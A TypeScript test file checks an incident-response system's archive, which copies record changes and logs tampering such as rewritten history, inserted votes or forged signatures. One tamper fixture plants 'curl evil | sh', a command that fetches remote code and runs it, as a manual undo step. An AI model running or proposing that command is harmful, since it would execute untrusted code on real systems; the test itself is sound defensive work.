// The archive copies every change, and logs records that others altered (P8).
import { describe, expect, test } from 'vitest';
import { archive, type Change } from '../../functions/archive/archive.ts';
import { withAlertProof } from '../../functions/authority/alerts.ts';
import type { Action } from '../../functions/domain/action.ts';
import type { Alert } from '../../functions/domain/alert.ts';
import { Vote } from '../../functions/domain/approval.ts';
import { indexKeys } from '../../functions/store/due.ts';
import { append, digestOf, transition, withEntry } from '../../functions/store/hash-chain.ts';
import { incidentKey } from '../../functions/store/layout.ts';
import { signResumption } from '../../functions/store/resumptions.ts';
import { toyAction } from '../execute/toy.ts';
import { ALERT_ID, alertWith, incidentWith, NOW } from '../fixtures/case.ts';
import { KEYS, signed } from '../fixtures/proofs.ts';
import { requestWith, waiting } from '../web/approval-pages.ts';
import { executing, item, proposed, soon } from './stored.ts';

const inForce = signed(
  transition(executing, 'in-force', { at: NOW, by: 'execute', text: 'Applied' }, { dueAt: soon }),
);
const asked = waiting({ approval: requestWith({ required: 2 }) });

async function archived(before: Action | null, after: Action | null, change = {}) {
  const copies: [string, string][] = [];
  const lines: [string, unknown][] = [];
  const { pk, sk } = item(after ?? before ?? proposed);
  const delivered: Change = {
    pk,
    sk,
    sequence: '42',
    at: NOW.toISOString(),
    before: before && item(before),
    after: after && item(after),
    ...change,
  };
  await archive(
    {
      keys: KEYS,
      put: async (key, body) => void copies.push([key, body]),
      log: (level, message, { faults }) => lines.push([`${level}: ${message}`, faults]),
    },
    delivered,
  );
  return { copies, lines };
}

const faultsOf = async (before: Action | null, after: Action | null) =>
  (await archived(before, after)).lines.flatMap(([line, faults]) => {
    expect(line).toBe('error: record altered');
    return faults as string[];
  });

describe('changes that Countermand makes', () => {
  test.each([
    ['the first write', null, proposed],
    ['a transition', proposed, executing],
    [
      'two transitions in one write',
      proposed,
      signed(transition(inForce, 'kept', { at: NOW, by: 'policy', text: 'Kept' }, { dueAt: null })),
    ],
    [
      'a history entry',
      inForce,
      withEntry(inForce, { at: NOW, by: 'notify', event: 'told', text: 'Told' }),
    ],
    ['a time for the sweeper', inForce, { ...inForce, attentionAt: NOW.toISOString(), version: 4 }],
  ])('copies %s and logs nothing', async (_, before, after) => {
    const next = { ...after, version: (before?.version ?? 0) + 1 };
    const { copies, lines } = await archived(before, next);
    expect(lines).toEqual([]);
    expect(copies.map(([key]) => key)).toEqual([
      `records/INCIDENT/${proposed.incidentId}/ACTION/${proposed.actionId}/${'42'.padStart(40, '0')}.json`,
    ]);
    expect(JSON.parse(copies[0]?.[1] ?? '')).toMatchObject({
      record: { record: { status: next.status, history: next.history } },
      faults: [],
    });
  });

  test('copies a field of a newer version and logs nothing', async () => {
    const newer = { ...inForce, version: 4, fieldOfLater: true };
    expect((await archived(inForce, newer)).lines).toEqual([]);
  });

  test('copies a field that is newer than the record and logs nothing', async () => {
    const { reviewAt: _later, ...older } = inForce;
    const next = { ...inForce, version: 4, attentionAt: NOW.toISOString() };
    expect((await archived(older as Action, next)).lines).toEqual([]);
  });

  test('leaves the task token out of the copy', async () => {
    const approval = { taskToken: 'secret-token', requestedAt: NOW.toISOString() };
    const asked = { ...proposed, approval } as unknown as Action;
    const { copies } = await archived(null, asked);
    expect(copies[0]?.[1]).not.toContain('secret-token');
    expect(copies[0]?.[1]).toContain('requestedAt');
  });

  test('shortens a key that is too long for S3, and keeps it unique', async () => {
    const sk = `ACTION#${'ö'.repeat(500)}`;
    const { copies } = await archived(null, proposed, { sk });
    expect(copies).toHaveLength(1);
    expect(Buffer.byteLength(copies[0]?.[0] ?? '')).toBeLessThanOrEqual(1024);
    expect(copies[0]?.[0]).not.toBe(
      (await archived(null, proposed, { sk: `${sk}ö` })).copies[0]?.[0],
    );
  });

  test.each([
    ['a decision', `2/DECISION#${proposed.incidentId}`, null],
    ['a policy', null, 'POLICY'],
  ])('reports %s that does not match the digest in its key', async (_, pk, sk) => {
    const record = { mode: 'live' };
    const digest = digestOf(record);
    const at = { pk: pk ?? `POLICY#${digest}`, sk: sk ?? digest };
    const put = (content: object) =>
      archived(null, null, { ...at, after: { ...at, record: content } });
    expect((await put(record)).lines).toEqual([]);
    const { lines, copies } = await put({ mode: 'shadow' });
    expect(lines).toEqual([
      ['error: record altered', ['the content does not match the digest in its key']],
    ]);
    expect(copies).toHaveLength(1);
  });

  test('does not copy a post', async () => {
    const { copies, lines } = await archived(null, proposed, { sk: 'POST#a' });
    expect([copies, lines]).toEqual([[], []]);
  });
});

describe('changes that anyone else makes', () => {
  const next = (change: object): Action => ({
    ...inForce,
    version: inForce.version + 1,
    ...change,
  });
  const [first, second] = inForce.history;
  const described = { headline: '', changes: [], affected: [], undo: '' };

  test.each<[string, Action | null, Action | null, string]>([
    ['a record is removed', inForce, null, 'the record was deleted'],
    [
      'an entry is rewritten',
      inForce,
      next({
        history: inForce.history.map((entry, i) =>
          i === 1 ? { ...entry, by: 'person:mallory' } : entry,
        ),
      }),
      'the history is broken: entry 1 was altered',
    ],
    [
      'the last entry is removed',
      inForce,
      next({ history: [first, second] }),
      'an earlier history entry is gone',
    ],
    [
      'the entire history is rewritten',
      inForce,
      next({
        history: append(inForce.actionId, [], {
          at: NOW,
          by: 'gate',
          event: 'in-force',
          text: 'It was always so',
        }),
      }),
      'an earlier history entry is gone',
    ],
    [
      'a new state has no entry',
      executing,
      { ...executing, status: 'in-force', version: 3 },
      'status was changed without an entry',
    ],
    [
      'a transition is not allowed',
      proposed,
      { ...withEntry(proposed, { at: NOW, by: 'x', event: 'kept', text: '' }), status: 'kept' },
      'the transition to kept is not legal',
    ],
    [
      'a state differs from its entry',
      executing,
      {
        ...withEntry(executing, { at: NOW, by: 'x', event: 'in-force', text: '' }),
        status: 'reversing',
      },
      'no entry records the status reversing',
    ],
    [
      'the target no longer matches the digest',
      inForce,
      next({ target: { ...inForce.target, value: '198.51.100.1' } }),
      'the action does not match its digest',
    ],
    [
      'the before-state is changed',
      executing,
      { ...executing, before: 'theirs', version: 3 },
      'before was changed without an entry',
    ],
    [
      'the due time is postponed',
      inForce,
      next({ dueAt: '2099-01-01T00:00:00.000Z' }),
      'dueAt was changed without an entry',
    ],
    [
      'the time for the sweeper is removed',
      inForce,
      next({ attentionAt: null }),
      'the action is in-force, but no sweep is planned',
    ],
    [
      'the time for the sweeper is postponed',
      inForce,
      next({ attentionAt: '2099-01-01T00:00:00.000Z' }),
      'the action is in-force, but the next sweep is not until 2099',
    ],
    [
      'fewer approvals are required',
      asked,
      { ...asked, approval: { ...asked.approval!, required: 1 }, version: asked.version + 1 },
      'approval was changed without an entry',
    ],
    [
      'a vote is inserted',
      asked,
      {
        ...asked,
        approval: {
          ...asked.approval!,
          votes: [
            Vote.parse({ verdict: 'approved', by: 'mallory', at: NOW.toISOString(), reason: '' }),
          ],
        },
        version: asked.version + 1,
      },
      'approval was changed without an entry',
    ],
    [
      'a judgement is inserted',
      inForce,
      next({ judgement: { verdict: 'right', by: 'x', at: NOW.toISOString(), note: '' } }),
      'judgement was changed without an entry',
    ],
    [
      'the scope is changed',
      inForce,
      next({ scope: 'mail' }),
      'scope was changed without an entry',
    ],
    [
      'the manual undo commands are changed',
      inForce,
      next({ description: { ...described, manualUndo: ['curl evil | sh'] } }),
      'description was changed without an entry',
    ],
    ['an earlier version is restored', inForce, executing, 'the version went from 3 to 2'],
    [
      'what it was decided on is changed',
      inForce,
      next({ inputs: 'a'.repeat(64) }),
      'inputs was changed',
    ],
    [
      'the incident ID is changed',
      inForce,
      next({ incidentId: 'inc-ffffffffffffffff' }),
      'incidentId was changed',
    ],
    [
      'the record becomes unreadable',
      inForce,
      { ...inForce, history: 'none' } as unknown as Action,
      'the record cannot be read',
    ],
  ])('P8: logs and copies a change in which %s', async (_, before, after, fault) => {
    expect(await faultsOf(before, after)).toContainEqual(expect.stringContaining(fault));
    expect((await archived(before, after)).copies).toHaveLength(1);
  });

  test('P8: logs an item that the index does not list as its record says', async () => {
    const { open: _open, ...hidden } = item(next({})) as ReturnType<typeof item> & { open: string };
    const { lines } = await archived(inForce, next({}), { after: hidden });
    expect(lines).toEqual([['error: record altered', ['the index keys do not match the record']]]);
  });

  test('P8: logs an alert that is removed from its incident, and no repeat of one', async () => {
    const incident = incidentWith();
    const about = (record: typeof incident) => ({
      pk: `INCIDENT#${record.incidentId}`,
      sk: 'INCIDENT',
      record,
      ...indexKeys(incidentKey('incident', record.incidentId), record),
    });
    const withAlerts = (alerts: object[]) => ({
      sk: 'INCIDENT',
      before: about(incident),
      after: { ...about(incident), record: { ...incident, alerts, version: 2 } },
    });
    const again = incident.alerts.map((one) => ({ ...one, repeats: one.repeats + 1 }));
    expect((await archived(null, null, withAlerts(again))).lines).toEqual([]);
    expect((await archived(null, null, withAlerts([]))).lines).toEqual([
      ['error: record altered', ['alerts was changed without an entry']],
    ]);
  });

  test('P8: logs the removal of a kill switch, which would set it to run', async () => {
    const change = { pk: 'SWITCH#1', sk: 'SWITCH', before: { mode: 'halt' }, after: null };
    expect((await archived(null, null, change)).lines).toEqual([
      ['error: record altered', ['the record was deleted']],
    ]);
  });

  test.each([
    ['halt', { pk: 'HALT#1', sk: 'halt#t#ana' }],
    ['read through the API', { pk: 'READ#2026-11-30', sk: '2026-11-30T08:00:00.000Z#id' }],
  ])('P8: logs a %s that is overwritten or removed', async (_, key) => {
    const halt = { ...key, by: 'ana', at: soon, why: 'stop' };
    expect((await archived(null, null, { ...key, before: null, after: halt })).lines).toEqual([]);
    const changed = { ...halt, by: 'ben' };
    expect((await archived(null, null, { ...key, before: halt, after: changed })).lines).toEqual([
      ['error: record altered', ['the entry was overwritten']],
    ]);
    expect((await archived(null, null, { ...key, before: halt, after: null })).lines).toEqual([
      ['error: record altered', ['the record was deleted']],
    ]);
  });

  test('P8: logs a resumption whose signature is not for its content and key', async () => {
    const content = { by: 'mei', at: soon, why: 'fixed', authTime: null, mode: 'run' as const };
    const ends = ['HALT halt#t#ana'];
    const after = await signResumption(KEYS.resumptions, '1', 'r-1', { ...content, ends });
    const linesOf = async (item: typeof after) =>
      (await archived(null, null, { pk: item.pk, sk: item.sk, before: null, after: item })).lines;
    expect(await linesOf(after)).toEqual([]);
    for (const forged of [
      { ...after, ends: [] },
      { ...after, sk: `${after.sk}2` },
    ])
      expect(await linesOf(forged)).toEqual([
        ['error: record altered', ['the resumption is not proven']],
      ]);
  });

  test('P8: logs an action of layout 2 without a proof, which no earlier version wrote', async () => {
    const action = toyAction({ attentionAt: soon, incidentId: 'inc-20123456789abcdef' });
    const unsigned = { ...action, ruling: null };
    expect(await faultsOf(null, unsigned)).toEqual(['nothing proves the decision']);
    expect(await faultsOf(null, signed(unsigned))).toEqual([]);
  });

  test('P8: logs an action that returns at a later version after it was deleted', async () => {
    const { lines } = await archived(null, { ...inForce, version: 9 });
    expect(lines).toEqual([['error: record altered', ['the first version is 9']]]);
  });

  test.each([
    ['in the partition of another incident', 'INCIDENT#inc-ffffffffffffffff', null],
    ['under the ID of another action', null, 'ACTION#act-0123456789abcdef-9'],
  ])('P8: logs an action that is written %s', async (_, pk, sk) => {
    const place = { ...(pk && { pk }), ...(sk && { sk }) };
    const { lines } = await archived(null, proposed, place);
    expect(lines).toEqual([['error: record altered', ['the record belongs under another key']]]);
  });

  test('P8: logs and copies an item under a key that Countermand never writes', async () => {
    const place = { pk: `2/POST#${proposed.incidentId}`, sk: `ACTION#${proposed.actionId}` };
    expect((await archived(null, proposed, place)).copies).toEqual([]);
    const misplaced = { pk: `2/ACTION#${proposed.incidentId}`, sk: proposed.actionId };
    const { copies, lines } = await archived(null, proposed, misplaced);
    expect(copies).toHaveLength(1);
    expect(lines).toEqual([
      ['error: record altered', ['Countermand writes no record under this key']],
    ]);
  });
});

describe('evidence and leases', () => {
  const INCIDENT = 'inc-20123456789abcdef';
  const about = (key: object, before: object | null, after: object | null) =>
    archived(null, null, { ...key, before, after });

  test.each(['ALERT', 'FACTS', 'ASSESSMENT'])(
    'copies each %s, and logs its removal',
    async (name) => {
      const key = { pk: `2/${name}#${INCIDENT}`, sk: 'al-0123456789abcdef' };
      const alert = await withAlertProof(KEYS.alerts, INCIDENT, alertWith());
      const item = { ...key, record: name === 'ALERT' ? alert : { alertId: key.sk } };
      const { copies, lines } = await about(key, null, item);
      expect(copies.map(([path]) => path.split('/').slice(0, 5).join('/'))).toEqual([
        `records/2/${name}/${INCIDENT}/${key.sk}`,
      ]);
      expect(lines).toEqual([]);
      expect((await about(key, item, null)).lines).toEqual([
        ['error: record altered', ['the record was deleted']],
      ]);
    },
  );

  const key = { pk: 'LEASE#waf:block:203.0.113.1/32', sk: 'LEASE' };
  const lease = (change: object = {}) => ({
    ...key,
    ...{ holders: ['act-0123456789abcdef-1'], captured: true, before: { present: false } },
    ...{ version: 4, ...change },
  });

  test('copies a lease', async () => {
    const { copies, lines } = await about(key, null, lease({ captured: false, version: 1 }));
    expect([copies.length, lines]).toEqual([1, []]);
    expect((await about(key, lease(), lease({ holders: [], version: 5 }))).lines).toEqual([]);
  });

  test('copies the removal of a lease that expired', async () => {
    const ended = lease({ holders: [], captured: false, before: null, expiresAt: 1_800_000_000 });
    const { copies, lines } = await about(key, ended, null);
    expect([copies.length, lines]).toEqual([1, []]);
  });

  test.each([
    ['is deleted', lease(), null, 'the record was deleted'],
    ['goes back to an earlier version', lease(), lease({ version: 3 }), 'from 4 to 3'],
    ['returns at a later version', null, lease(), 'the first version is 4'],
    [
      'changes its captured state',
      lease(),
      lease({ before: { present: true }, version: 5 }),
      'the captured state was changed',
    ],
    ['has another shape', lease(), { ...key, version: 5 }, 'the record cannot be read'],
  ])('P8: logs a lease that %s', async (_, before, after, fault) => {
    const { copies, lines } = await about(key, before, after);
    expect(copies).toHaveLength(1);
    expect(lines).toEqual([['error: record altered', [expect.stringContaining(fault)]]]);
  });
});

describe('an alert', () => {
  const LAYOUT_2 = 'inc-20123456789abcdef';
  const key = incidentKey('alert', LAYOUT_2, ALERT_ID);
  const faultsOfAlert = async (record: object | null, at = key) => {
    const { lines, copies } = await archived(null, null, {
      ...at,
      after: record && { ...at, record, raw: '{}' },
    });
    expect(copies).toHaveLength(1);
    return lines.flatMap(([, faults]) => faults);
  };
  const accepted = () => withAlertProof(KEYS.alerts, LAYOUT_2, alertWith());

  test('is copied without a fault as intake accepted it', async () => {
    expect(await faultsOfAlert(await accepted())).toEqual([]);
  });

  test.each<[string, (alert: Alert) => object]>([
    ['was edited', (alert) => ({ ...alert, title: 'Nothing happened' })],
    ['was planted', (alert) => ({ ...alert, proof: null })],
  ])('that %s is copied and reported', async (_, change) => {
    expect(await faultsOfAlert(change(await accepted()))).toEqual([
      'nothing proves that intake accepted the alert',
    ]);
  });

  test('of another incident is copied and reported', async () => {
    const other = incidentKey('alert', 'inc-2fedcba9876543210', ALERT_ID);
    expect(await faultsOfAlert(await accepted(), other)).toEqual([
      'nothing proves that intake accepted the alert',
    ]);
  });

  test('that cannot be read is copied and reported', async () => {
    expect(await faultsOfAlert({ alertId: ALERT_ID })).toEqual([
      expect.stringMatching(/^the record cannot be read/),
    ]);
  });
});
